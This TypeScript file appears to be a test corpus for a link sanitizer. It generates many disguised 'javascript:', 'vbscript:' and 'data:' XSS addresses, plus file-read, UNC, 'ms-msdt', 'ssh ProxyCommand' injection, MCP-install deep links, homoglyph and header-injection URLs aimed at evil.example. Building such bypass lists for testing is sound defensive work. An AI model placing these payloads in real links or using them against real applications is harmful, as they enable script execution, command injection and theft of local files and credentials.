/** Addresses that run, read files or start programs, and the ways to write them past a careless check. */
import { asEntities, asPercent, type Sketch } from '../sketch.ts';

/** What stands before the colon, disguised. */
const disguises: readonly ((scheme: string) => string)[] = [
  (scheme) => `${scheme}:`,
  (scheme) => `${scheme.toUpperCase()}:`,
  (scheme) => `${scheme.replace(/./g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter))}:`,
  (scheme) => `${scheme.slice(0, 4)}\t${scheme.slice(4)}:`,
  (scheme) => `${scheme.slice(0, 4)}\n${scheme.slice(4)}:`,
  (scheme) => `${scheme.slice(0, 4)}&Tab;${scheme.slice(4)}:`,
  (scheme) => `${scheme.slice(0, 4)}&NewLine;${scheme.slice(4)}:`,
  (scheme) => `${scheme.slice(0, 4)}&#13;${scheme.slice(4)}:`,
  (scheme) => `${scheme}&colon;`,
  (scheme) => `${scheme}&#58;`,
  (scheme) => `${scheme}%3A`,
  (scheme) => `${asEntities(scheme)}:`,
  (scheme) => `${asEntities(scheme, true)}&#x3a;`,
  (scheme) => `${asPercent(scheme)}:`,
  (scheme) => `\\${scheme}:`,
  (scheme) => `${scheme.slice(0, 4)}\\${scheme.slice(4)}\\:`,
  (scheme) => `\u0001${scheme}:`,
  (scheme) => `&#1;${scheme}:`,
  (scheme) => `\u00a0${scheme}:`,
  (scheme) => `\u200b${scheme}:`,
  (scheme) => `\ufeff${scheme}:`,
  (scheme) => `${scheme.slice(0, 4)}\u200d${scheme.slice(4)}:`,
  (scheme) => `${scheme.slice(0, 4)}\u00ad${scheme.slice(4)}:`,
  (scheme) => `\u202e${scheme}:`,
  (scheme) => `${scheme.slice(0, 4)}\u0000${scheme.slice(4)}:`,
  (scheme) => `${scheme.replace('s', '\u017f')}:`,
  (scheme) => `https://ok.example\n${scheme}:`,
  (scheme) => `//${scheme}:`,
  (scheme) => `view-source:${scheme}:`,
  (scheme) => `&nbsp;${scheme}&#x0000003A`,
];

const scripts: readonly Sketch[] = [
  ...disguises.map(
    (disguise): Sketch =>
      (code) =>
        `${disguise('javascript')}${code}`,
  ),
  ...disguises.map(
    (disguise): Sketch =>
      (code) =>
        `${disguise('vbscript')}${code}`,
  ),
  ...disguises.map(
    (disguise): Sketch =>
      (code) =>
        `${disguise('data')}text/html,<script>${code}</script>`,
  ),
  (code) => `javascript://%0a${code}`,
  (code) => `javascript://ok.example/%0d%0a${code}`,
  (code) => `javascript:void(${code})`,
  (code) => `javascript:'<script>${code}</script>'`,
  (code) => `javascript:${asPercent(code)}`,
  (code) => `javascript:${asEntities(code)}`,
  (code) => `javascript:/*--></title></style></textarea></script><svg/onload='${code}'>*/${code}`,
  (code) => `data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
  (code) => `data:text/html;charset=utf-7,+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  (code) => `data:image/svg+xml,<svg/onload=${code}>`,
  (code) => `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`)}`,
  (code) =>
    `data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"><script>${code}</script></html>`,
  (code) => `data:,${code}`,
  (code) => `data:image/png;text/html,<script>${code}</script>`,
  (code) => `livescript:${code}`,
  (code) => `mocha:${code}`,
  (code) => `jar:javascript:${code}!/`,
  (code) => `blob:javascript:${code}`,
];

/** Programs and files of the reader's machine, and places that only look like the web. */
const others: readonly string[] = [
  'file:///etc/passwd',
  'FILE:///C:/Windows/win.ini',
  'file:\\\\evil.example\\share',
  'file://evil.example/share/x.exe',
  'fi\tle:///etc/passwd',
  '&#102;ile:///etc/passwd',
  '%66ile:///etc/passwd',
  '\\\\evil.example\\share',
  '//evil.example/share',
  '/\\evil.example',
  'https:evil.example',
  'https:/evil.example',
  'https:\\\\evil.example\\x',
  'ms-msdt:/id PCWDiagnostic /skip force',
  'search-ms:query=x&crumb=location:\\\\evil.example',
  'ms-officecmd:{"id":3}',
  'vscode://vscode.git/clone?url=x',
  'cursor://anysphere.cursor-deeplink/mcp/install?name=x',
  'chatbox://mcp/install?server=x',
  'parley://settings',
  'app://bundle/index.html',
  'app://bundle/../../etc/passwd',
  'chrome://settings',
  'devtools://devtools/bundled/inspector.html',
  'about:blank',
  'about:srcdoc',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/temporary/x',
  'intent://scan/#Intent;scheme=zxing;end',
  'smb://evil.example/share',
  'ssh://-oProxyCommand=id/x',
  'ftp://evil.example/x',
  'ws://evil.example/x',
  'telnet://evil.example',
  'tel:+15551234567',
  'sms:+15551234567',
  'magnet:?xt=urn:btih:x',
  'itms-services://?action=download-manifest&url=https://evil.example',
  'shell:startup',
  'res://ieframe.dll/x',
  'x-apple.systempreferences:com.apple.preference',
  '/settings',
  '../index.html',
  'index.html',
  '?reload',
  '#message',
  '#',
  '',
];

const web: readonly Sketch[] = [
  (_, address) => address.replace('https://', 'https://me:secret@'),
  (_, address) => address.replace('https://', 'https://openai.com@'),
  (_, address) => address.replace('https://', 'https://openai.com%2f@'),
  (_, address) => address.replace('evil', '\u0435vil'),
  (_, address) => address.replace('evil', 'evil\u3002'),
  (_, address) => `${address}/\u202egnp.exe`,
  (_, address) => `${address}?q=\n\nHost: x`,
  (_, address) => `${address}" onmouseover="top.pwned()" x="`,
  (_, address) => `${address}/${'a'.repeat(5000)}`,
  (_, address) => address.replace('https', 'http'),
  (_, address) => `mailto:x@evil.example?body=${address}&attach=/etc/passwd`,
];

export const schemes: readonly Sketch[] = [
  ...scripts,
  ...others.map(
    (other): Sketch =>
      () =>
        other,
  ),
  ...web,
];
